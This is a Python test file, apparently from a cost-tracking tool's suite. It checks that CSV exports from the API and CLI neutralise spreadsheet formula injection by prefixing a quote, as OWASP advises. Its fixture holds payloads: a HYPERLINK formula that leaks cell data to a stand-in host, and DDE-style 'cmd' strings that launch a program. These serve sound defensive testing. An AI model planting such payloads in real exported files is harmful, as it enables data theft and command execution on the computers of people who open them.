"""CSV formula injection: owner and model values that a spreadsheet would run as formulas leave as text.

A team named `=HYPERLINK(...)` must reach finance's spreadsheet as the text it is. OWASP's CSV-injection guidance:
a text cell starting with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'` and is quoted. Numbers from
the ledger are data and stay as they are. Exercised through `costline serve`'s API and the `costline usage` command
on the same ledger, and on the shared renderer for the characters the ledger itself refuses (tab, CR).
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import urllib.request
from datetime import datetime, timezone
from decimal import Decimal
from pathlib import Path

from costline.processor.http.api import UsageQuery, render_usage
from tests.processor.otlp import llm_span, request_of

from .conftest import Served, http_get, serve, stop

FORMULAS = {
    "team": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "project": "+cmd|' /C calc'!A0",
    "user": "@SUM(1+1)*cmd|' /C calc'!A0",
    "feature": "-2+3+cmd|' /C calc'!A0",
}
MODEL = "=1+2"


def _post(url: str, body: bytes) -> int:
    request = urllib.request.Request(url, body, {"Content-Type": "application/x-protobuf"})
    with urllib.request.urlopen(request, timeout=10) as response:  # noqa: S310 - loopback
        return response.status


def _cells(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body)))


def _assert_neutralised(body: str) -> None:
    rows = _cells(body)
    header, data = rows[0], rows[1:]
    assert data, body
    for row in data:
        for column, cell in zip(header, row, strict=True):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    by_team = {row[header.index("team")]: dict(zip(header, row, strict=True)) for row in data}
    row = by_team["'" + FORMULAS["team"]]
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value  # the value itself, only prefixed: nothing is lost
    assert row["model"] == "'" + MODEL
    assert row["requests"] == "2" and row["input_tokens"] == "2000"  # numbers stay numbers
    # Every neutralised cell is quoted in the raw text, as OWASP asks, not only the ones the CSV syntax needs.
    for value in (*FORMULAS.values(), MODEL):
        assert '"\'' + value.replace('"', '""') + '"' in body


def test_formula_owner_values_are_text_in_the_api_and_cli_csv(tmp_path: Path, serving: list[Served]) -> None:
    db_url = f"sqlite:///{tmp_path / 'ledger.db'}"
    served = serve(tmp_path, db_url)
    serving.append(served)
    extra = {f"costline.{k}": v for k, v in FORMULAS.items() if k != "team"}
    spans = [llm_span(team=FORMULAS["team"], model=MODEL, extra=extra) for _ in range(2)]
    spans.append(llm_span(team="marketing"))
    assert _post(served.otlp_url, request_of(spans).SerializeToString()) == 200

    group_by = "team,project,user,feature,model"
    stored = json.loads(http_get(f"{served.api_url}/api/v1/usage?group_by={group_by}&format=json"))["rows"]
    assert {r["team"] for r in stored} == {FORMULAS["team"], "marketing"}  # JSON carries the value unchanged

    api_csv = http_get(f"{served.api_url}/api/v1/usage?group_by={group_by}&format=csv").decode()
    _assert_neutralised(api_csv)
    assert stop(served) == 0

    result = subprocess.run(
        [sys.executable, "-m", "costline.cli", "usage", "--db", db_url, "--group-by", group_by, "--format", "csv"],
        capture_output=True, cwd=tmp_path, timeout=60, env=dict(os.environ))
    assert result.returncode == 0, result.stderr.decode()
    _assert_neutralised(result.stdout.decode())
    assert result.stdout.decode() == api_csv  # one renderer for both


def test_tab_and_carriage_return_prefixes_and_negative_numbers() -> None:
    query = UsageQuery(datetime(2026, 1, 1, tzinfo=timezone.utc), datetime(2026, 2, 1, tzinfo=timezone.utc),
                       ("team", "model"), "csv")
    rows = [{"team": "\t=1+2", "model": "\r@x", "requests": -3, "cost_usd": Decimal("-1.5"), "ratio": -0.25},
            {"team": "plain", "model": "gpt-4o", "requests": 1, "cost_usd": Decimal("0.5"), "ratio": 0.5}]
    _, body = render_usage(query, rows)
    cells = _cells(body.decode())
    assert cells[1] == ["'\t=1+2", "'\r@x", "-3", "-1.5", "-0.25"]  # negative numbers are data, not formulas
    assert cells[2] == ["plain", "gpt-4o", "1", "0.5", "0.5"]
    assert body.decode().split("\r\n")[2] == "plain,gpt-4o,1,0.5,0.5"  # ordinary rows are as before
